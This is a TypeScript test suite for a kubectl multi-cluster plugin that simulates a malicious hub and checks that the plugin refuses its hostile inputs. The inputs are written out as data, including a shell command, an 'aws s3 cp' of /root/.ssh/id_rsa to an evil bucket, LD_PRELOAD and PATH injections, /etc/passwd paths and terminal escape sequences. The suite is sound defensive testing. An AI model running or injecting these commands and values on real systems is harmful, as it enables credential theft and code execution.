import { spawnSync } from 'node:child_process';
import { chmod, readFile, rm, stat, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { ensureBuilt } from '../../hack/bundle.ts';
import { attachFleet } from '../fleet/attach.ts';
import { makeCA } from '../fleet/pki.ts';
import type { ProfileRequest } from '../fleet/profiles.ts';
import {
  type EvilHome,
  evilHome,
  hint,
  isClean,
  offer,
  openMute,
  openSink,
  removeProfiles,
  type Sink,
  silence,
} from './evil.ts';
import { forget } from './home.ts';
import type { Ended } from './run.ts';

const fleet = attachFleet();
const python = spawnSync('python3', ['-c', 'import pty, termios']).status === 0;
const api = 'client.authentication.k8s.io/v1beta1';
const EKS = 'eks,get-token,--cluster-name,production,--region,us-east-1';
const get = ['get', 'namespaces', '-o', 'name'];
/** A local provider that runs the canary `plugin`. */
const provider = (name: string, more: object = {}, exec: object = {}) => ({
  name,
  execConfig: { apiVersion: api, command: 'plugin', interactiveMode: 'Never', ...exec },
  ...more,
});

describe.skipIf(!fleet?.description.clientCA)('a hub that means harm', () => {
  let sink: Sink;
  const numbered = { homes: 0 };
  beforeAll(async () => {
    await ensureBuilt();
    sink = await openSink();
  });
  afterAll(async () => {
    await sink.close();
    const created = Array.from({ length: numbered.homes }, (_, at) => `evil-${at}`);
    await removeProfiles(fleet!, [...created, ...created.map((name) => `${name}-attacker`)]);
  });

  const home = (profiles: readonly ProfileRequest[], more: Partial<Parameters<typeof evilHome>[1]> = {}) =>
    evilHome(fleet!, { namespace: `evil-${numbered.homes++}`, profiles, ...more });
  const member = (name: string, more: Partial<ProfileRequest> = {}): ProfileRequest => ({
    name,
    conditions: { ControlPlaneHealthy: 'True' },
    ...more,
  });
  const listed = { allowedServers: { eks: [fleet?.members.A.url ?? ''] } };
  /** The one cluster's error in a JSON answer. */
  const errorOf = ({ stdout }: Ended) => JSON.parse(stdout).clusters[0].error;
  /** Nothing of the user went anywhere, and nothing that the hub named ran. */
  async function untouched(evil: EvilHome, ended: Ended): Promise<void> {
    expect(await evil.ran()).toEqual([]);
    expect([sink.connections(), sink.heard()]).toEqual([0, []]);
    expect(isClean(ended)).toBe(true);
    expect(ended.code).toBe(1);
  }
  const refusal = async (profile: Partial<ProfileRequest>, more: Parameters<typeof home>[1] = {}) => {
    const evil = await home([member('x', profile)], more);
    const ended = await evil.mc(['--accept-new-clusters', 'get', 'ns', '-o', 'json']);
    await untouched(evil, ended);
    return { evil, ended, error: errorOf(ended) };
  };

  describe('T1 names a command', () => {
    test.each([
      ['sh', '-c,touch /tmp/evil', 'E-HINT-COMMAND'],
      ['/bin/sh', undefined, 'E-HINT-COMMAND'],
      ['aws.exe', EKS, 'E-HINT-COMMAND'],
      ['curl', `${'x'.repeat(1000)}`, 'E-HINT-COMMAND'],
    ])('%s %s', async (command, args, code) => {
      const { ended, error } = await refusal({
        properties: hint(command, args),
        accessProviders: [offer(fleet!, 'kubeconfig', sink)],
      });
      expect(error).toMatchObject({ type: 'NoAccess', reason: code });
      expect(ended.stderr).toContain(
        `the hub suggests running "${command}"; only aws, gke-gcloud-auth-plugin and kubelogin have recipes`,
      );
      // The way out is there, and nothing of the hub is in what one might copy.
      const lines = ended.stderr.split('\n').filter((line) => line.startsWith('    '));
      expect(lines.join('\n')).toContain('CONTEXT}" under clusters in');
      expect(lines.join('\n')).toContain('"command":"YOUR-PLUGIN"');
      expect(lines.join('\n')).not.toContain(command);
    });

    test('with hints ignored, a cluster is left out with the reason, or fails where it was named', async () => {
      const evil = await home(
        [member('x', { properties: hint('aws', EKS), accessProviders: [offer(fleet!, 'kubeconfig', 'A')] })],
        { access: { hubHints: 'ignore' } },
      );
      const text =
        'the hub suggests running "aws" to log in; kubectl mc does not run commands that a hub chooses (access.hubHints is "ignore")';
      const left = await evil.mc(get);
      expect([left.code, left.stderr]).toEqual([1, expect.stringContaining(`note: 1 cluster left out: x: ${text}`)]);
      const named = await evil.mc(['--clusters=x', 'get', 'ns', '-o', 'json']);
      expect(errorOf(named)).toMatchObject({ reason: 'E-HINT-DISABLED', message: text });
      expect(named.stderr).toContain('access: {hubHints: recipe, recipes: {eks: {}}}');
      expect(await evil.ran()).toEqual([]);
    });
  });

  describe('T2 chooses arguments', () => {
    test.each([
      ['aws', `${EKS},--endpoint-url,https://evil.example`, 'E-HINT-ARG', '--endpoint-url'],
      ['aws', 's3,cp,/root/.ssh/id_rsa,s3://evil/', 'E-HINT-ARG', 's3'],
      ['aws', 'eks,get-token,--cluster-name,file:///etc/passwd,--region,us-east-1', 'E-HINT-VALUE', '--cluster-name'],
      ['gke-gcloud-auth-plugin', '--log_file=/root/.bashrc', 'E-HINT-ARG', '--log_file'],
      [
        'kubelogin',
        'get-token,--login,workloadidentity,--federated-token-file,/root/.kube/config',
        'E-HINT-ARG',
        '--federated-token-file',
      ],
    ])('%s %s', async (command, args, code, offender) => {
      const { error } = await refusal({
        properties: hint(command, args),
        accessProviders: [offer(fleet!, 'kubeconfig', sink)],
      });
      expect(error.reason).toBe(code);
      expect(error.message).toContain(`"${offender}"`);
    });

    test('arguments for a provider cannot even be stored, and are ignored unless the provider file says otherwise', async () => {
      const extension = { name: 'clusterprofiles.multicluster.x-k8s.io/exec/additional-args', extension: ['--evil'] };
      const evil = await home([], { providers: [provider('p')] });
      const access = offer(fleet!, 'p', 'A', { extensions: [extension] });
      await expect(evil.profiles([member('x', { accessProviders: [access] })])).rejects.toThrow(
        'must be of type object',
      );
    });
  });

  test('T3 sets variables: dropped, whatever the policy, where they could do harm', async () => {
    const envs = {
      ...{
        LD_PRELOAD: '/tmp/evil.so',
        PATH: '/tmp',
        HTTPS_PROXY: sink.server,
        AWS_PROFILE: 'root',
        NODE_OPTIONS: '-r x',
      },
      CLIENT_ID: 'fine',
    };
    const extensions = [
      { name: 'clusterprofiles.multicluster.x-k8s.io/exec/additional-envs', extension: envs },
      { name: 'client.authentication.k8s.io/exec', extension: { clusterName: 'secret-of-another' } },
    ];
    const evil = await home(
      ['ignored', 'replaced'].map((name) =>
        member(name, { accessProviders: [offer(fleet!, name, 'A', { extensions })] }),
      ),
      { providers: [provider('ignored'), provider('replaced', { profileSourcedEnvVarsPolicy: 'Replace' })] },
    );
    const run = async (cluster: string) => {
      const ended = await evil.mc(['--accept-new-clusters', '--clusters', cluster, ...get]);
      expect(ended).toMatchObject({ code: 0 });
      return { ended, env: await evil.environment() };
    };
    const ignored = await run('ignored');
    for (const name of Object.keys(envs)) expect(ignored.env[name]).not.toBe(envs[name as keyof typeof envs]);
    const replaced = await run('replaced');
    expect(replaced.env['CLIENT_ID']).toBe('fine');
    for (const name of ['LD_PRELOAD', 'HTTPS_PROXY', 'AWS_PROFILE', 'NODE_OPTIONS']) {
      expect(replaced.env[name]).toBeUndefined();
      expect(replaced.ended.stderr).toContain(`"${name}"`);
    }
    expect(replaced.env['PATH']).not.toBe('/tmp');
    expect(replaced.ended.stderr).toContain('(W-ENV-DENIED)');
    // T8: what a plugin may be told about the cluster is told only where the provider file wants it.
    expect(JSON.parse(replaced.env['KUBERNETES_EXEC_INFO'] ?? '')).toEqual({
      kind: 'ExecCredential',
      apiVersion: api,
      spec: { interactive: false },
    });
  });

  describe('T4 moves a cluster', () => {
    const profile = (where: Parameters<typeof offer>[2], more = {}, name = 'p'): ProfileRequest =>
      member('prod', { accessProviders: [offer(fleet!, name, where, more)] });
    const trusted = async () => {
      const evil = await home([profile('A')], { providers: [provider('p'), provider('q')] });
      const refused = await evil.mc(get);
      expect(refused.code).toBe(1);
      expect(refused.stderr).toContain(
        `error: cluster "${evil.namespace}/prod" is not known yet and this is not a terminal; run "kubectl mc trust --all" first, or pass --accept-new-clusters`,
      );
      expect(await evil.ran()).toEqual([]);
      expect(await evil.mc(['--accept-new-clusters', ...get])).toMatchObject({ code: 0 });
      expect(await evil.ran()).toHaveLength(1);
      expect(await evil.mc(get)).toMatchObject({ code: 0 });
      expect((await stat(evil.knownFile)).mode & 0o777).toBe(0o600);
      await silence(evil);
      return evil;
    };

    test('to another address: refused with both, also with --accept-new-clusters; accepted by name only', async () => {
      const evil = await trusted();
      await evil.profiles([profile(sink)]);
      const key = `${evil.namespace}/prod`;
      for (const args of [get, ['--accept-new-clusters', ...get], ['trust', '--all', '--yes']]) {
        const ended = await evil.mc(args);
        await untouched(evil, ended);
        const at = ended.stderr.indexOf('error: cluster');
        expect(ended.stderr.slice(at).split('\n').slice(0, 4)).toEqual([
          `error: cluster "${key}": the hub now gives another address for this cluster; nothing was sent to it.`,
          expect.stringMatching(
            new RegExp(
              `^    known:  ${fleet!.members.A.url}  \\(CA sha256:[0-9a-f]{16}…, provider p, since \\d{4}-\\d\\d-\\d\\d\\)$`,
            ),
          ),
          expect.stringMatching(new RegExp(`^    now:    ${sink.server}  \\(CA sha256:[0-9a-f]{16}…, provider p\\)$`)),
          `    If this move is expected, run:  kubectl mc trust ${key}`,
        ]);
      }
      await evil.profiles([profile('B')]);
      expect(await evil.mc(get)).toMatchObject({ code: 1 });
      const accepted = await evil.mc(['trust', key, '--yes']);
      expect([accepted.code, accepted.stdout]).toEqual([0, expect.stringContaining(`cluster "${key}" is trusted at`)]);
      expect(await evil.mc(get)).toMatchObject({ code: 0 });
    });

    test.each([
      ['another CA', async () => ({ ca: sink.ca }), 'another certificate authority'],
      [
        'one CA more',
        async (own: string) => ({ ca: own + (await makeCA('evil')).cert }),
        'another certificate authority',
      ],
      ['the public roots', async () => ({}), 'another certificate authority'],
    ])('under %s', async (_, bundle, text) => {
      const evil = await trusted();
      const { url: server, ca } = fleet!.members.A;
      await evil.profiles([profile({ server, ...(await bundle(ca)) })]);
      const ended = await evil.mc(['--accept-new-clusters', ...get]);
      await untouched(evil, ended);
      expect(ended.stderr).toContain(`the hub now gives ${text} for this cluster; nothing was sent to it.`);
    });

    test('to another provider, or to another name in its certificate', async () => {
      const evil = await trusted();
      await evil.profiles([profile('A', {}, 'q')]);
      expect((await evil.mc(get)).stderr).toContain('the hub now gives another access provider for this cluster');
      await evil.profiles([profile('A', { 'tls-server-name': 'evil.example' })]);
      expect((await evil.mc(get)).stderr).toContain('the hub now gives another TLS server name for this cluster');
      expect(await evil.ran()).toEqual([]);
    });

    test('a bundle that trusts less is fine, and what is left is what is pinned', async () => {
      const { url: server, ca } = fleet!.members.A;
      const old = (await makeCA('old')).cert;
      const evil = await home([profile({ server, ca: ca + old })], { providers: [provider('p')] });
      expect(await evil.mc(['--accept-new-clusters', ...get])).toMatchObject({ code: 0 });
      await evil.profiles([profile({ server, ca })]);
      expect(await evil.mc(get)).toMatchObject({ code: 0 });
      await evil.profiles([profile({ server, ca: ca + old })]);
      expect((await evil.mc(get)).stderr).toContain('another certificate authority');
    });

    test('T14 a cached inventory goes through the same pins', async () => {
      const evil = await home([profile('A')], {
        providers: [provider('p')],
        config: { discovery: { cacheTTL: '10m' } },
      });
      expect(await evil.mc(['--accept-new-clusters', ...get])).toMatchObject({ code: 0 });
      await silence(evil);
      await rm(evil.knownFile);
      const ended = await evil.mc(get);
      expect([ended.code, await evil.ran()]).toEqual([1, []]);
    });

    test('pin: warn says so and goes on, pin: off says nothing', async () => {
      const evil = await home([profile('A')], { providers: [provider('p')], endpoints: { pin: 'warn' } });
      expect(await evil.mc(['--accept-new-clusters', ...get])).toMatchObject({ code: 0 });
      await evil.profiles([profile('B')]);
      const warned = await evil.mc(get);
      expect([warned.code, warned.stderr]).toEqual([0, expect.stringContaining('(W-PIN-CHANGED)')]);
      const off = await home([profile('A')], { providers: [provider('p')], endpoints: { pin: 'off' } });
      expect(await off.mc(get)).toMatchObject({ code: 0, stderr: '' });
    });
  });

  test('T5 asks for TLS not to be checked', async () => {
    const { error } = await refusal(
      { accessProviders: [offer(fleet!, 'p', { server: sink.server }, { 'insecure-skip-tls-verify': true })] },
      { providers: [provider('p')] },
    );
    expect(error).toMatchObject({
      type: 'EndpointRefused',
      reason: 'E-ENDPOINT-INSECURE',
      message: 'it asks for TLS verification to be skipped; set access.endpoints.allowInsecureTLS to accept that',
    });
  });

  test('T6 asks for a proxy', async () => {
    const proxy = await openMute();
    try {
      const { error } = await refusal(
        { accessProviders: [offer(fleet!, 'p', 'A', { 'proxy-url': proxy.server })] },
        { providers: [provider('p')] },
      );
      expect(error).toMatchObject({
        reason: 'E-ENDPOINT-PROXY',
        message: `it asks for the proxy "${proxy.server}", which is not in access.endpoints.allowedProxies`,
      });
      expect(proxy.connections()).toBe(0);
    } finally {
      await proxy.close();
    }
  });

  test('T7 names a file as certificate authority: ignored, and told', async () => {
    const { url: server } = fleet!.members.A;
    const evil = await home(
      [member('x', { accessProviders: [offer(fleet!, 'p', { server }, { 'certificate-authority': '/etc/passwd' })] })],
      { providers: [provider('p')] },
    );
    const ended = await evil.mc(['--accept-new-clusters', 'get', 'ns', '-o', 'json']);
    expect(ended.stderr).toContain('(W-CA-FILE-IGNORED)');
    // Without a CA of its own the system's roots count, and they do not know this server.
    expect(errorOf(ended)).toMatchObject({ type: 'TLS' });
  });

  test('T9 a second profile of a known name, or of a known member id, is another cluster', async () => {
    const labels = { 'multicluster.x-k8s.io/inventory-member-id': 'prod-1' };
    const evil = await home([member('prod', { labels, accessProviders: [offer(fleet!, 'p', 'A')] })], {
      providers: [provider('p')],
      config: { discovery: { namespaces: [] } },
    });
    const scope = ['--hub-namespace', `${evil.namespace},${evil.namespace}-attacker`];
    expect(await evil.mc([...scope, '--accept-new-clusters', ...get])).toMatchObject({ code: 0 });
    await silence(evil);
    await evil.profiles([
      {
        ...member('prod', { labels, accessProviders: [offer(fleet!, 'p', sink)] }),
        namespace: `${evil.namespace}-attacker`,
      },
    ]);
    const ended = await evil.mc([...scope, 'get', 'ns', '-o', 'json']);
    const clusters = JSON.parse(ended.stdout).clusters as { cluster: string; error?: { reason: string } }[];
    expect(clusters.map(({ cluster, error }) => [cluster, error?.reason])).toEqual([
      [`${evil.namespace}-attacker/prod`, 'E-PIN-UNKNOWN'],
      [`${evil.namespace}/prod`, undefined],
    ]);
    expect([ended.code, sink.connections(), (await evil.ran()).length]).toEqual([3, 0, 1]);
  });

  test('T10 writes escape sequences: no output has any of them', async () => {
    const evilText = 'a\x1b[2J\x1b]0;x\x07\r\u202eb\u200b\x9b31m';
    const conditions = { ControlPlaneHealthy: { status: 'False' as const, reason: 'R', message: evilText } };
    const evil = await home(
      [
        member('shown', { displayName: evilText, version: evilText, conditions }),
        member('hinted', { properties: hint(evilText, evilText) }),
        member('offered', { accessProviders: [offer(fleet!, evilText, { server: `https://${evilText}` })] }),
        member('addressed', { accessProviders: [offer(fleet!, 'p', { server: `https://x${evilText}` })] }),
        member('proxied', { accessProviders: [offer(fleet!, 'p', 'A', { 'proxy-url': evilText })] }),
        member('typed', { properties: hint('aws', EKS, { 'cluster.type': 'gke' }) }),
      ],
      { providers: [provider('p')] },
    );
    for (const args of [
      get,
      ['get', 'ns', '-v', '--clusters=shown,hinted,offered,addressed,proxied,typed'],
      ['get', 'ns', '-v=9'],
      ['clusters', 'list', '-o', 'wide'],
      ['trust', '--all', '--yes'],
    ]) {
      const ended = await evil.mc(args);
      expect([args, isClean(ended)]).toEqual([args, true]);
      expect(await evil.ran()).toEqual([]);
    }
    if (!python) return;
    for (const args of [get, ['get', 'ns', '-o', 'json'], ['clusters', 'list', '-o', 'wide']]) {
      const { shown } = await evil.atTerminal([], args);
      expect(shown).not.toContain('\x1b[2J');
      expect(shown).not.toMatch(/[\x07\x9b\u202e\u200b]/u);
    }
  });

  test('T11 more profiles than maxClusters: nothing, never a cut list', async () => {
    const evil = await home(
      ['a', 'b', 'c'].map((name) => member(name)),
      { config: { discovery: { maxClusters: 2 } } },
    );
    const ended = await evil.mc(get);
    expect([ended.code, ended.stdout]).toEqual([1, '']);
    expect(ended.stderr).toContain('the hub has more than 2 ClusterProfiles; raise discovery.maxClusters');
  });

  test('properties of 1,024 characters and two thousand of them are read, shown cut and never executed', async () => {
    const properties = Object.fromEntries(Array.from({ length: 500 }, (_, at) => [`p${at}`, 'x'.repeat(1024)]));
    const { error } = await refusal({
      properties: { ...properties, ...hint('a'.repeat(1024), 'b'.repeat(1024)) },
      accessProviders: [offer(fleet!, 'kubeconfig', sink)],
    });
    expect(error.reason).toBe('E-HINT-COMMAND');
    expect(error.message.length).toBeLessThan(300);
  });

  test('T15 a redirect is an error that names its target, and takes no token along', async () => {
    const redirector = await openSink(`${sink.server}/steal`);
    try {
      const evil = await home([member('x', { accessProviders: [offer(fleet!, 'p', redirector)] })], {
        providers: [provider('p')],
      });
      const ended = await evil.mc(['--accept-new-clusters', 'get', 'ns', '-o', 'json']);
      expect(errorOf(ended).message).toContain(`127.0.0.1:${sink.port}`);
      expect([ended.code, sink.connections()]).toEqual([1, 0]);
    } finally {
      await redirector.close();
    }
  });

  test.each(['kubectl-mc-providers.json', 'kubectl-mc-config.yaml'])(
    'T18 %s that others may write is not used',
    async (name) => {
      const evil = await home([member('x', { accessProviders: [offer(fleet!, 'p', 'A')] })], {
        providers: [provider('p')],
      });
      const file = join(evil.dir, '.kube', name);
      await chmod(file, 0o666);
      const ended = await evil.mc(['--accept-new-clusters', ...get]);
      expect([ended.code, ended.stdout]).toEqual([2, '']);
      expect(ended.stderr).toBe(`error: ${file} is writable by other users; not used\nrun: chmod go-w ${file}\n`);
      expect(await evil.ran()).toEqual([]);
    },
  );

  test('T19 no file of the working folder is read', async () => {
    const evil = await home([member('x', { accessProviders: [offer(fleet!, 'p', 'A')] })]);
    for (const name of ['clusterprofile-provider-file.json', 'kubectl-mc-providers.json'])
      await evil.write(name, JSON.stringify({ providers: [provider('p')] }));
    const ended = await evil.mc(['--accept-new-clusters', ...get]);
    expect([ended.code, await evil.ran()]).toEqual([1, []]);
    expect(ended.stderr).toContain(
      'no access: no context is mapped to it and its access providers (p) are not in your provider file; map one with "kubectl mc setup" or see "kubectl mc help access"',
    );
    const named = await evil.mc([
      '--accept-new-clusters',
      '--clusterprofile-provider-file',
      'kubectl-mc-providers.json',
      ...get,
    ]);
    expect(named.code).toBe(0);
    const gone = await evil.mc(['--clusterprofile-provider-file', 'gone.json', ...get]);
    expect([gone.code, gone.stderr]).toEqual([2, expect.stringContaining('failed to read access config file')]);
  });

  test('T20 no level of logging shows a token', async () => {
    const evil = await home([member('x', { accessProviders: [offer(fleet!, 'p', 'A')] })], {
      providers: [provider('p')],
    });
    const token = (await readFile(fleet!.users.dave.tokenFile ?? '', 'utf8')).trim();
    for (const level of [['-v=9'], ['--log-level=trace', '--debug']]) {
      const ended = await evil.mc(['--accept-new-clusters', ...get, ...level]);
      expect(ended.code).toBe(0);
      expect(ended.stdout + ended.stderr).not.toContain(token);
    }
    expect(await readFile(evil.knownFile, 'utf8')).not.toContain(token);
  });

  test('its address policy has no holes by spelling', async () => {
    for (const server of [
      'https://localhost:1',
      'https://0x7f.1:1',
      'https://[::ffff:127.0.0.1]:1',
      'https://169.254.169.254',
    ]) {
      const { error } = await refusal(
        { accessProviders: [offer(fleet!, 'p', { server })] },
        { providers: [provider('p')], endpoints: { allowLoopback: false } },
      );
      expect([server, error.reason]).toEqual([server, 'E-ENDPOINT-LOCAL']);
      expect(error.message).toBe(`its server address points to this machine or a link-local network: "${server}"`);
    }
  });

  describe('recipes', () => {
    const prod = (name: string, more: Partial<ProfileRequest> = {}) =>
      member(name, { properties: hint('aws', EKS), accessProviders: [offer(fleet!, 'kubeconfig', 'A')], ...more });
    const rebuilt = 'aws eks get-token --cluster-name production --region us-east-1 --output json';

    test("an address that is not the cloud's is refused, whatever else is accepted", async () => {
      const { error } = await refusal({
        properties: hint('aws', EKS),
        accessProviders: [offer(fleet!, 'kubeconfig', sink)],
      });
      expect(error).toMatchObject({
        type: 'EndpointRefused',
        reason: 'E-ENDPOINT-RECIPE',
        message:
          'its server "127.0.0.1" is not an EKS address; add it to access.endpoints.allowedServers.eks if it is yours',
      });
    });

    test('a listed address: trusted first, then exactly the rebuilt command, with nothing of the hub around it', async () => {
      const evil = await home(
        [
          prod('x', {
            properties: hint('aws', `["--region=us-east-1","eks","get-token","--cluster-name=production"]`, {
              EVIL: 'of-the-hub',
              'auth.exec.env': 'EVIL=of-the-hub',
              'cluster.type': 'eks',
            }),
          }),
        ],
        { endpoints: listed },
      );
      await untouched(evil, await evil.mc(get));
      const ended = await evil.mc(['--accept-new-clusters', ...get]);
      expect([ended.code, ended.stdout]).toEqual([0, expect.stringContaining('namespace/kube-system')]);
      expect(await evil.ran()).toEqual([rebuilt]);
      const env = await evil.environment();
      expect([env['AWS_PAGER'], env['AWS_CLI_AUTO_PROMPT']]).toEqual(['', 'off']);
      expect(JSON.stringify(env)).not.toContain('of-the-hub');
      expect(JSON.parse(env['KUBERNETES_EXEC_INFO'] ?? '')).toEqual({
        kind: 'ExecCredential',
        apiVersion: api,
        spec: { interactive: false },
      });
    });

    test('the same cluster twice is one cluster and one login', async () => {
      const labels = { 'multicluster.x-k8s.io/inventory-member-id': 'm' };
      const evil = await home([prod('x', { labels }), prod('y', { labels })], { endpoints: listed });
      expect(await evil.mc(['--accept-new-clusters', ...get])).toMatchObject({ code: 0 });
      expect(await evil.ran()).toEqual([rebuilt]);
    });

    test('a recipe that is not enabled', async () => {
      const { error, ended } = await refusal(
        { properties: hint('aws', EKS), accessProviders: [offer(fleet!, 'kubeconfig', 'A')] },
        { access: { recipes: { gke: {} } }, endpoints: listed },
      );
      expect(error).toMatchObject({
        reason: 'E-HINT-RECIPE-DISABLED',
        message: 'the hub suggests "aws", recipe "eks" is not enabled under access.recipes',
      });
      expect(ended.stderr).toContain('access: {recipes: {eks: {}}}');
    });

    describe.skipIf(!python)('at a terminal', () => {
      test('forty new clusters are one table and one question; only the word yes counts', async () => {
        const names = Array.from({ length: 40 }, (_, at) => `c${String(at).padStart(2, '0')}`);
        const evil = await home(
          names.map((name) => prod(name)),
          { endpoints: listed },
        );
        for (const answer of ['y\n', '\n', 'YES\n', '\x04']) {
          const { shown, code } = await evil.atTerminal([['(yes/no/each)', answer]], get);
          expect([answer, code, await evil.ran()]).toEqual([answer, 1, []]);
          expect(shown.match(/Trust these 40 clusters\?/g)).toHaveLength(1);
          expect(shown).toMatch(/CLUSTER +SERVER +CA +PROVIDER/);
          expect(shown).toContain(`cluster "${evil.namespace}/c00" is not trusted; nothing was sent to it`);
        }
        const { shown, code } = await evil.atTerminal([['(yes/no/each)', 'yes\n']], get);
        expect([code, await evil.ran()]).toEqual([0, [rebuilt]]);
        expect(shown).toContain('c39:namespace/kube-system');
        expect(await evil.atTerminal([], get)).toMatchObject({ code: 0, shown: expect.not.stringContaining('Trust') });
      });

      test('each asks one by one', async () => {
        const evil = await home(
          ['a', 'b'].map((name) => prod(name)),
          { endpoints: listed },
        );
        const key = (name: string) => `Trust ${evil.namespace}/${name} at ${fleet!.members.A.url}? (yes/no)`;
        const { shown } = await evil.atTerminal(
          [
            ['(yes/no/each)', 'each\n'],
            [key('a'), 'no\n'],
            [key('b'), 'yes\n'],
          ],
          get,
        );
        expect(shown).toContain('b:namespace/kube-system');
        const known = await readFile(evil.knownFile, 'utf8');
        expect([known.includes('/a'), known.includes(`${evil.namespace}/b`)]).toEqual([false, true]);
      });

      test('Ctrl-C at the question ends the command and leaves nothing behind', async () => {
        const evil = await home([prod('x')], { endpoints: listed });
        const { code } = await evil.atTerminal([['Trust this cluster? (yes/no)', '\x03']], get);
        expect([code, await evil.ran()]).toEqual([130, []]);
        await expect(readFile(evil.knownFile)).rejects.toThrow('ENOENT');
      });

      test("trust lists a host of one's own after the typed word, comments kept", async () => {
        const evil = await home([prod('x')]);
        await writeFile(evil.configFile, `# mine\n${await readFile(evil.configFile, 'utf8')}`);
        const { shown, code } = await evil.atTerminal(
          [
            ['access.endpoints.allowedServers.eks? (yes/no)', 'yes\n'],
            ['Trust this cluster? (yes/no)', 'yes\n'],
          ],
          ['trust', 'x'],
        );
        expect(code).toBe(0);
        expect(shown).toContain('127.0.0.1 is not an Amazon endpoint; an AWS token');
        const config = await readFile(evil.configFile, 'utf8');
        expect([config.startsWith('# mine\n'), config.includes(fleet!.members.A.url)]).toEqual([true, true]);
        expect(await evil.mc(get)).toMatchObject({ code: 0 });
      });
    });

    test("a provider of a cloud's own plugin: the caution is told, and nobody accepts it unseen", async () => {
      const providers = [provider('google', {}, { command: 'gke-gcloud-auth-plugin' })];
      const { error, evil } = await refusal({ accessProviders: [offer(fleet!, 'google', 'A')] }, { providers });
      expect(error).toMatchObject({
        reason: 'E-ENDPOINT-RECIPE',
        message:
          '127.0.0.1 is not a Google endpoint; a Google access token for your whole account would be sent to it.',
      });
      const all = await evil.mc(['trust', '--all', '--yes']);
      expect([all.code, all.stderr]).toEqual([1, expect.stringContaining('127.0.0.1 is not a Google endpoint')]);
      expect(await evil.mc(['trust', 'x', '--yes'])).toMatchObject({ code: 0 });
      expect(await evil.mc(get)).toMatchObject({ code: 0 });
    });
  });

  describe('kubectl mc trust', () => {
    test('asks nobody where nobody is, lists and forgets, and sends nothing', async () => {
      const evil = await home(
        [
          member('a', { accessProviders: [offer(fleet!, 'p', 'A')] }),
          member('b', { accessProviders: [offer(fleet!, 'p', 'B')] }),
        ],
        { providers: [provider('p')] },
      );
      const asked = await evil.mc(['trust', '--all']);
      expect([asked.code, asked.stderr]).toEqual([1, expect.stringContaining('pass --yes to trust what is shown')]);
      expect(await evil.mc(['trust', '--list'])).toMatchObject({ code: 0, stdout: '', stderr: 'No known clusters\n' });
      expect(await evil.mc(['trust', 'a', '--yes'])).toMatchObject({ code: 0 });
      expect(await evil.mc(['trust', '--all', '--yes'])).toMatchObject({ code: 0 });
      expect(await evil.mc(['trust', '--all', '--yes'])).toMatchObject({
        code: 0,
        stdout: '',
        stderr: 'Nothing to trust: every address is known already, or your own\n',
      });
      expect(await evil.ran()).toEqual([]);
      const list = JSON.parse((await evil.mc(['trust', '--list', '-o', 'json'])).stdout);
      expect(list.clusters).toMatchObject([
        {
          hub: fleet!.hub.url,
          cluster: `${evil.namespace}/a`,
          server: fleet!.members.A.url,
          provider: 'p',
          ca: [expect.stringMatching(/^sha256:[0-9a-f]{64}$/)],
        },
        { cluster: `${evil.namespace}/b` },
      ]);
      expect(await evil.mc(['trust', '--remove', 'a'])).toMatchObject({ code: 0 });
      expect((await evil.mc(get)).stderr).toContain(`cluster "${evil.namespace}/a" is not known yet`);
      const wrong = await evil.mc(['trust', '--remove', 'zzz']);
      expect([wrong.code, wrong.stderr]).toEqual([1, expect.stringContaining('no known cluster is called "zzz"')]);
    });

    test.each([[['trust']], [['trust', '--all', 'x']], [['trust', '--list', '--all']], [['trust', 'x', '-o', 'json']]])(
      '%j is misuse',
      async (args) => {
        const evil = await home([]);
        expect(await evil.mc(args)).toMatchObject({ code: 2, stdout: '' });
      },
    );

    test('a damaged file is an error, never an empty one', async () => {
      const evil = await home([member('a', { accessProviders: [offer(fleet!, 'p', 'A')] })], {
        providers: [provider('p')],
      });
      await writeFile(evil.knownFile, 'apiVersion: kubectl-mc.k8s.io/v1alpha1\nkind: KnownClusters\nclusters: 7\n');
      const ended = await evil.mc(['--accept-new-clusters', ...get]);
      expect([ended.code, ended.stderr]).toEqual([2, expect.stringContaining('clusters is not a list')]);
      await writeFile(evil.knownFile, '');
      const emptied = await evil.mc(['--accept-new-clusters', ...get]);
      expect([emptied.code, emptied.stderr]).toEqual([2, expect.stringContaining('it is not a mapping')]);
      await rm(evil.knownFile);
      await forget(evil);
      expect(await evil.mc(['--accept-new-clusters', ...get])).toMatchObject({ code: 0 });
    });
  });
});
